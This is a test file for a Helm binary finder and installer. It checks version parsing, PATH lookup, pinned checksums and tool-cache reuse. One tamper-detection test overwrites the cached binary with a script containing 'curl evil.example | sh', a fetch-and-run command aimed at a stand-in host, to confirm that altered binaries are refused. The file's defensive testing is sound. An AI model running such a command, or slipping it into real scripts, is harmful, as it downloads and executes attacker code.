import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import {
  chmodSync,
  copyFileSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  rmSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { delimiter, dirname, join } from 'node:path';
import * as realToolCache from '@actions/tool-cache';
import { DeployError } from '../../src/errors.js';
import {
  HELM_CHECKSUMS,
  findHelm,
  installHelm,
  parseHelmVersion,
  requireSupportedHelm,
  type HelmBinary,
  type ToolCache,
} from '../../src/helm/binary.js';
import { MemoryOutput } from '../memory-output.js';
import { fakeRunner } from './fake-runner.js';

const bin = (raw: string): HelmBinary => ({ path: '/usr/bin/helm', version: parseHelmVersion(raw)! });

function thrown(fn: () => unknown): DeployError {
  try {
    fn();
  } catch (err) {
    if (err instanceof DeployError) return err;
    throw err;
  }
  throw new Error('expected a DeployError');
}

async function rejected(p: Promise<unknown>): Promise<DeployError> {
  try {
    await p;
  } catch (err) {
    if (err instanceof DeployError) return err;
    throw err;
  }
  throw new Error('expected a DeployError');
}

let tmp: string;
beforeAll(() => {
  tmp = mkdtempSync(join(tmpdir(), 'helm-binary-'));
});
afterAll(() => rmSync(tmp, { recursive: true, force: true }));

function executable(path: string, body = '#!/bin/sh\necho v3.17.3\n') {
  mkdirSync(join(path, '..'), { recursive: true });
  writeFileSync(path, body);
  chmodSync(path, 0o755);
  return path;
}

describe('parseHelmVersion', () => {
  it.each([
    ['v3.17.3', { major: 3, minor: 17, patch: 3 }],
    ['v4.1.4+g05fa379\n', { major: 4, minor: 1, patch: 4 }],
    ['3.13.0-rc.1', { major: 3, minor: 13, patch: 0 }],
  ])('reads %j', (text, want) => {
    expect(parseHelmVersion(text)).toMatchObject(want);
  });

  it.each(['', 'Error: unknown command', 'v3.17', 'version.BuildInfo{Version:"v3.17.3"}'])(
    'rejects %j',
    (text) => {
      expect(parseHelmVersion(text)).toBeUndefined();
    },
  );
});

describe('requireSupportedHelm', () => {
  it('explains how to get helm when none was found', () => {
    const err = thrown(() => requireSupportedHelm(undefined));
    expect(err.kind).toBe('input');
    expect(err.exitCode).toBe(2);
    expect(err.message).toBe('helm not found');
    expect(err.hint).toMatch(/helm >= 3\.13/);
    expect(err.hint).toMatch(/HELM_BIN/);
    expect(err.hint).toMatch(/helm-version/);
  });

  it('rejects 3.12.3, naming the found version and the minimum', () => {
    const err = thrown(() => requireSupportedHelm(bin('v3.12.3')));
    expect(err.exitCode).toBe(2);
    expect(err.message).toContain('v3.12.3');
    expect(err.message).toContain('3.13.0');
  });

  it.each([
    ['v3.13.0', 3],
    ['v3.17.3', 3],
    ['v4.1.4', 4],
  ])('accepts %s as helm %i', (raw, major) => {
    expect(requireSupportedHelm(bin(raw)).major).toBe(major);
  });

  it('refuses a helm major whose flags it does not know', () => {
    expect(thrown(() => requireSupportedHelm(bin('v5.0.0'))).message).toMatch(/v5\.0\.0.*not supported/);
  });
});

describe('findHelm', () => {
  it('runs the explicit binary with a version template both majors understand', async () => {
    const path = executable(join(tmp, 'explicit', 'helm'));
    const { run, calls } = fakeRunner(() => ({ stdout: 'v4.1.4' }));
    const found = await findHelm({ run, explicit: path });
    expect(found).toEqual({ path, version: { major: 4, minor: 1, patch: 4, raw: 'v4.1.4' } });
    expect(calls).toEqual([
      { command: path, args: ['version', '--template', '{{.Version}}'], options: undefined },
    ]);
  });

  it('takes the first executable helm on PATH, skipping a non-executable one', async () => {
    const notExec = join(tmp, 'p1', 'helm');
    mkdirSync(join(tmp, 'p1'), { recursive: true });
    writeFileSync(notExec, 'not a program');
    chmodSync(notExec, 0o644);
    const good = executable(join(tmp, 'p2', 'helm'));
    executable(join(tmp, 'p3', 'helm'));
    const { run } = fakeRunner(() => ({ stdout: 'v3.17.3' }));
    const pathEnv = [join(tmp, 'nope'), join(tmp, 'p1'), join(tmp, 'p2'), join(tmp, 'p3')].join(delimiter);
    expect((await findHelm({ run, pathEnv }))?.path).toBe(good);
  });

  it('returns undefined, without running anything, when PATH has no helm', async () => {
    const { run, calls } = fakeRunner();
    expect(await findHelm({ run, pathEnv: join(tmp, 'empty') })).toBeUndefined();
    expect(calls).toHaveLength(0);
  });

  it('fails on an explicit path that is not an executable', async () => {
    const { run } = fakeRunner();
    const err = await rejected(findHelm({ run, explicit: join(tmp, 'missing', 'helm') }));
    expect(err.exitCode).toBe(2);
    expect(err.message).toContain(join(tmp, 'missing', 'helm'));
    expect(err.hint).toMatch(/HELM_BIN/);
  });

  it('fails when the binary prints something that is not a version', async () => {
    const path = executable(join(tmp, 'garbage', 'helm'));
    const { run } = fakeRunner(() => ({ stdout: 'kubectl controls the Kubernetes cluster manager' }));
    const err = await rejected(findHelm({ run, explicit: path }));
    expect(err.kind).toBe('input');
    expect(err.message).toBe(`${path} did not report a helm version`);
    expect(err.details.join('\n')).toContain('kubectl controls');
  });
});

describe('installHelm', () => {
  // A real tarball laid out like get.helm.sh's: <os>-<arch>/helm.
  let archive: string;
  let archiveSha: string;
  const env = { ...process.env };

  beforeAll(() => {
    const src = join(tmp, 'tarball');
    executable(join(src, 'linux-amd64', 'helm'), '#!/bin/sh\necho v9.9.9\n');
    archive = join(tmp, 'helm-v9.9.9-linux-amd64.tar.gz');
    execFileSync('tar', ['-czf', archive, '-C', src, 'linux-amd64']);
    archiveSha = createHash('sha256').update(readFileSync(archive)).digest('hex');
    process.env.RUNNER_TOOL_CACHE = join(tmp, 'toolcache');
    process.env.RUNNER_TEMP = join(tmp, 'runner-temp');
  });
  afterAll(() => {
    process.env = env;
  });

  /** The real tool cache, except that "downloading" hands out a fresh copy of our tarball. */
  function toolCache() {
    const downloads: string[] = [];
    const tc: ToolCache = {
      find: realToolCache.find,
      extractTar: realToolCache.extractTar,
      cacheDir: realToolCache.cacheDir,
      downloadTool: async (url: string) => {
        downloads.push(url);
        const copy = join(tmp, `download-${downloads.length}.tar.gz`);
        copyFileSync(archive, copy);
        return copy;
      },
    };
    return { tc, downloads };
  }

  it('pins a checksum for the default helm 3 and a helm 4 on linux and macOS, amd64 and arm64', () => {
    for (const v of ['3.17.3', '4.1.4']) {
      expect(Object.keys(HELM_CHECKSUMS[v] ?? {}).sort()).toEqual([
        'darwin-amd64',
        'darwin-arm64',
        'linux-amd64',
        'linux-arm64',
      ]);
      for (const sha of Object.values(HELM_CHECKSUMS[v] ?? {})) expect(sha).toMatch(/^[0-9a-f]{64}$/);
    }
  });

  it('refuses a download whose sha256 differs from the pinned one, and caches nothing', async () => {
    const { tc, downloads } = toolCache();
    const out = new MemoryOutput();
    const err = await rejected(
      installHelm('v3.17.3', out, { toolCache: tc, platform: 'linux', arch: 'x64' }),
    );
    expect(downloads).toEqual(['https://get.helm.sh/helm-v3.17.3-linux-amd64.tar.gz']);
    expect(err.message).toBe(
      'checksum mismatch for https://get.helm.sh/helm-v3.17.3-linux-amd64.tar.gz: refusing to run it',
    );
    expect(err.details).toEqual([
      `expected sha256 ${HELM_CHECKSUMS['3.17.3']?.['linux-amd64']}`,
      `got      sha256 ${archiveSha}`,
    ]);
    expect(existsSync(join(tmp, 'download-1.tar.gz'))).toBe(false);
    expect(realToolCache.find('ecommerce-deploy-helm', '3.17.3', 'linux-amd64')).toBe('');
  });

  it('installs a matching download into the tool cache, then reuses it without downloading', async () => {
    const checksums = { '9.9.9': { 'linux-amd64': archiveSha } };
    const first = toolCache();
    const path = await installHelm('9.9.9', new MemoryOutput(), {
      toolCache: first.tc,
      platform: 'linux',
      arch: 'x64',
      checksums,
    });
    expect(first.downloads).toHaveLength(1);
    expect(path).toBe(
      join(process.env.RUNNER_TOOL_CACHE!, 'ecommerce-deploy-helm', '9.9.9', 'linux-amd64', 'helm'),
    );
    expect(execFileSync(path).toString().trim()).toBe('v9.9.9');

    const again = toolCache();
    const out = new MemoryOutput();
    expect(
      await installHelm('v9.9.9', out, { toolCache: again.tc, platform: 'linux', arch: 'x64', checksums }),
    ).toBe(path);
    expect(again.downloads).toHaveLength(0);
    expect(out.text()).toContain('cached');
    expect(out.text()).toContain('sha256 re-verified');
  });

  it('re-hashes a cached helm before each use and refuses one that was altered since', async () => {
    const checksums = { '9.9.9': { 'linux-amd64': archiveSha } };
    const opts = { platform: 'linux', arch: 'x64', checksums } as const;
    const path = await installHelm('9.9.9', new MemoryOutput(), { toolCache: toolCache().tc, ...opts });
    const original = readFileSync(path);
    writeFileSync(path, '#!/bin/sh\necho v9.9.9; curl evil.example | sh\n');
    try {
      const { tc, downloads } = toolCache();
      const err = await rejected(installHelm('9.9.9', new MemoryOutput(), { toolCache: tc, ...opts }));
      expect(err.exitCode).toBe(2);
      expect(err.message).toBe(
        `the cached helm in ${dirname(path)} differs from the helm in its verified archive: refusing to run it`,
      );
      expect(err.hint).toContain(`delete ${dirname(path)}`);
      expect(downloads).toHaveLength(0);
    } finally {
      writeFileSync(path, original);
    }
    const archive = join(dirname(path), 'helm-verified.tar.gz');
    const goodArchive = readFileSync(archive);
    writeFileSync(archive, Buffer.concat([goodArchive, Buffer.from('x')]));
    try {
      const err = await rejected(
        installHelm('9.9.9', new MemoryOutput(), { toolCache: toolCache().tc, ...opts }),
      );
      expect(err.message).toContain('has an archive whose sha256 differs from the pinned one');
    } finally {
      writeFileSync(archive, goodArchive);
    }
  });

  it.each([
    ['an unpinned version', '3.16.0', 'linux', 'x64', 'helm v3.16.0 on linux-amd64'],
    ['an unpinned platform', '3.17.3', 'win32', 'x64', 'helm v3.17.3 on win32-x64'],
    ['an unpinned architecture', '4.1.4', 'linux', 's390x', 'helm v4.1.4 on linux-s390x'],
  ] as const)('refuses %s before downloading anything', async (_what, version, platform, arch, named) => {
    const { tc, downloads } = toolCache();
    const err = await rejected(installHelm(version, new MemoryOutput(), { toolCache: tc, platform, arch }));
    expect(err.exitCode).toBe(2);
    expect(err.message).toContain(named);
    expect(err.hint).toMatch(/pinned checksum \(3\.17\.3, 4\.1\.4\)/);
    expect(err.hint).toContain('azure/setup-helm');
    expect(downloads).toHaveLength(0);
  });
});
